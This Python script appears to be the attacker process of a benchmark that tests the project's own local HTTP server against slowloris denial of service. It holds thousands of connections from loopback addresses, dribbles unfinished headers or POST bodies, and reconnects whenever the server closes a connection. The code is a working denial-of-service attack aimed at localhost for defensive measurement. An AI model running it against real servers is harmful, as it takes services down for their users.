"""The attack side of bench/http_slowloris.py, in its own process so it does not slow the legitimate client.

``--connections`` sockets spread over source addresses 127.0.0.2, 127.0.0.3, ... Each one sends a
request line and then dribbles header bytes (never the blank line that ends the head) for as long
as the server lets it, or stays silent with ``--silent``. With ``--body-path`` it sends a complete,
authorised POST head announcing a large JSON body instead, and dribbles the body. A closed connection is opened again, as a
real slowloris does. A JSON status line is printed every second; SIGTERM ends the run.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import random
import time
from dataclasses import asdict, dataclass

from smtp_attacker import raise_fd_limit, report_until_sigterm


@dataclass
class Status:
    held: int = 0  # connections open now (connected; the server may not have accepted them yet)
    peak_held: int = 0
    opened: int = 0  # connects that completed
    # Every connection the server ended: reset_at_connect plus the ones it closed or reset after.
    closed_by_server: int = 0
    # A reset that reached the socket before connect() returned: the guard turning a newcomer
    # away at accept() (http/listener.py) with SO_LINGER 0. The server's closing all the same.
    reset_at_connect: int = 0
    connect_errors: int = 0  # any other failure to connect (refused, timed out, no address)

    def line(self) -> str:
        return json.dumps({**asdict(self), "time": time.time()})


async def slowloris(n: int, args: argparse.Namespace, status: Status) -> None:
    source = f"127.0.0.{2 + n // args.per_source}"
    await asyncio.sleep(n * args.ramp / max(1, args.connections))  # spread the connects
    while True:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", args.port, local_addr=(source, 0))
        except ConnectionResetError:
            status.reset_at_connect += 1
            status.closed_by_server += 1
        except OSError:
            status.connect_errors += 1
        else:
            status.opened += 1
            status.held += 1
            status.peak_held = max(status.peak_held, status.held)
            try:
                await hold(reader, writer, args)
            except OSError:
                pass  # reset by the server
            finally:
                status.held -= 1
                writer.close()
            # Only now: a cancelled hold (SIGTERM) is the attacker leaving, not the server closing.
            status.closed_by_server += 1
        await asyncio.sleep(args.retry)


async def hold(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, args: argparse.Namespace) -> None:
    """Dribble on a connected socket until the server closes it (returns) or resets it (OSError)."""
    if args.body_path:
        # Under the API's 6 MB body limit (http/deps.py): a larger declared length is refused at once,
        # and the connection would measure the head attack again rather than a dribbled body.
        writer.write(
            f"POST {args.body_path} HTTP/1.1\r\nHost: bench\r\nAuthorization: Bearer {args.api_key}\r\n"
            "Content-Type: application/json\r\nContent-Length: 1000000\r\n\r\n".encode()
        )
    elif not args.silent:
        writer.write(b"GET /health HTTP/1.1\r\nHost: bench\r\nX-Slow: ")
    while True:
        if not args.silent:
            writer.write(b"x")
            await writer.drain()
        with contextlib.suppress(TimeoutError):
            if not await asyncio.wait_for(reader.read(1024), args.interval * random.uniform(0.5, 1.5)):
                return  # the server closed it


async def main(args: argparse.Namespace) -> None:
    status = Status()
    await report_until_sigterm(
        status, [asyncio.create_task(slowloris(n, args, status)) for n in range(args.connections)]
    )


def parser() -> argparse.ArgumentParser:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--connections", type=int, default=4000)
    p.add_argument("--per-source", type=int, default=1000, help="connections per source address")
    p.add_argument("--interval", type=float, default=2.0, help="seconds between dribbled bytes")
    p.add_argument("--ramp", type=float, default=4.0, help="seconds over which the connections open")
    p.add_argument("--retry", type=float, default=0.5, help="seconds before reconnecting")
    p.add_argument("--silent", action="store_true", help="send nothing at all after connecting")
    p.add_argument("--body-path", default="", help="dribble the body of a POST to this path instead")
    p.add_argument("--api-key", default="", help="Authorization for --body-path, so the app reads the body")
    return p


if __name__ == "__main__":
    raise_fd_limit()
    asyncio.run(main(parser().parse_args()))
